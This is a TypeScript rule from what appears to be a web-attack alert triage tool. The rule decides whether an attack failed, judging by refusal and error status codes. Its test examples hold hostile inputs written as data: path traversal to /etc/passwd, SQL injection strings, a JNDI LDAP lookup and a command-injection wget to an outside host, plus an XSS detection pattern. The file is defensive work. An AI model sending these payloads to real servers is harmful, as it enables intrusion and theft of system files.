import { defineImpactTest } from '../define.ts'
import { disclosedIn } from '../reading/known-content.ts'
import { isJudgedByStatus, isRefusal } from '../reading/refusals.ts'
import { citesOfAll, ownAnswers, ownRequests } from '../reading/requests.ts'

export default defineImpactTest({
  id: 'not-found-or-refused',
  family: 'answer',
  title: { en: 'The server has nothing there, or refuses', ko: '대상 없음 또는 서버 거부' },
  reasoning: {
    en: 'Where the server says of every request of the alert that there is nothing, or that it may not be had, what was asked for was not got. What may run without an answer is not judged so.',
    ko: '경보의 모든 요청에 서버가 없거나 허용하지 않는다고 응답하면 요청한 것을 얻지 못한 것입니다. 응답 없이 실행될 수 있는 공격은 이렇게 판단하지 않습니다.',
  },
  spec: 'https://www.rfc-editor.org/rfc/rfc9110#section-15.5',
  appliesTo:
    'Attacks on web servers that want something back, where every answer is known. A fault of the server (5xx) decides nothing.',
  reads: ['exchanges'],
  applies: (of) => of.exchanges.length > 0 && isJudgedByStatus(of, ownRequests(of)),
  test(of) {
    const answers = ownAnswers(of)
    if (answers === null) return null
    const all = answers.flat()
    if (!all.every(({ status }) => isRefusal(status) || (status ?? 0) >= 500)) return null
    if (all.some(({ body }) => disclosedIn(body) !== null)) return null
    const statuses = [...new Set(all.map(({ status }) => status ?? 0))].sort((a, b) => a - b)
    const cites = citesOfAll(all)
    const faults = all.filter(({ status }) => (status ?? 0) >= 500 && status !== 501)
    if (faults.length > 0)
      return {
        result: 'attempted',
        confidence: 0.5,
        reason: {
          en: `The server answered with a fault (HTTP ${statuses.join(', ')}): what was sent may have run.`,
          ko: `서버가 오류로 응답했으므로(HTTP ${statuses.join(', ')}) 보낸 내용이 실행되었을 수 있습니다.`,
        },
        cites,
      }
    if (of.attackClass === 'cross_site_scripting') {
      // A page of an error repeats what was asked for as well as any other.
      if (all.some(({ body }) => body === null || body.cut)) return null
      if (
        all.some(({ body, said }) =>
          [...said.matchAll(/\bon\w{3,24}=|<script|alert\(/gi)].some(([text]) => body?.text.includes(text)),
        )
      )
        return null
    }
    return {
      result: 'failed',
      confidence: 0.9,
      reason: {
        en: `The server refused ${answers.length === 1 ? 'the one request' : `all ${answers.length} requests`} or had nothing there (HTTP ${statuses.join(', ')}).`,
        ko: `서버가 요청 ${answers.length}건을 모두 거부했거나 요청한 것이 없습니다(HTTP ${statuses.join(', ')}).`,
      },
      cites,
    }
  },
  examples: [
    {
      name: 'climbing out, refused three times',
      of: {
        title: 'Path traversal to /etc/passwd',
        exchanges: [
          '/menu.php?c=../../../../etc/passwd',
          '/menu.php?c=..%2f..%2fetc%2fpasswd',
          '/img.php?f=....//....//etc/passwd',
        ].map((url) => ({
          url,
          status: 400,
          body: '<h1>400 Bad Request</h1>',
        })),
      },
      expect: 'failed',
    },
    {
      name: 'a probe for what is not there, no class',
      of: { title: 'Tool agent from outside', exchanges: [{ url: '/cgi-bin/luci', status: 404 }] },
      expect: 'failed',
    },
    {
      name: 'a fault among refusals',
      of: {
        title: 'SQL injection',
        exchanges: [
          { url: "/i?id=1'or'1", status: 403 },
          { url: "/i?id=1'or'2", status: 500 },
        ],
      },
      expect: 'attempted',
    },
    {
      name: 'a lookup in a header: it may have been followed',
      of: { title: 'JNDI lookup in User-Agent header', exchanges: [{ url: '/?x=${jndi:ldap://203.0.113.9/a}', status: 404 }] },
      expect: null,
    },
    {
      name: 'a command that needs no answer',
      of: { title: 'Command injection', exchanges: [{ url: '/x?h=;wget%20http://203.0.113.9/a', status: 404 }] },
      expect: null,
    },
    {
      name: 'a page of an error that holds the file',
      of: {
        title: 'Path traversal',
        exchanges: [{ url: '/x?f=../../etc/passwd', status: 404, body: 'root:x:0:0:root:/root:/bin/bash' }],
      },
      expect: null,
    },
    {
      name: 'one of two was answered',
      of: {
        title: 'Path traversal',
        exchanges: [
          { url: '/x?f=../../etc/passwd', status: 404 },
          { url: '/y?f=../../etc/passwd', status: 200 },
        ],
      },
      expect: null,
    },
    {
      name: 'no class, and more was sent than a path',
      of: { title: 'Suspicious request', exchanges: [{ method: 'POST', url: '/api', requestBody: 'rO0ABXNyABFq', status: 404 }] },
      expect: null,
    },
  ],
})
